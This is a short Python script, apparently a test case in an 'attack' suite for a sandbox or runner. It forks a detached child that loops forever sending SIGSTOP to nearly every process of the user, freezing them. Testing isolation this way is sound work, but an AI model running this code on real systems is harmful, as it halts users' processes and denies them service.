"""Ends at once and leaves a process that stops every other one of its user for as long as it lives: the process that
waits for the next step is one."""

import os
import signal

from attack import report

report("leaving a process that stops every other one", True, "the group is killed; the next step is woken")
# By the number of any of its threads a process is met too.
spared = {int(thread) for pid in (os.getppid(), os.getpid()) for thread in os.listdir(f"/proc/{pid}/task")}
if os.fork() == 0:
    os.setsid()
    for descriptor in range(4):
        os.close(descriptor)
    while True:
        for pid in range(2, 400):
            # A script that is stopped before its end would only be the step that times out.
            if pid != os.getpid() and pid not in spared:
                try:
                    os.kill(pid, signal.SIGSTOP)
                except OSError:
                    continue
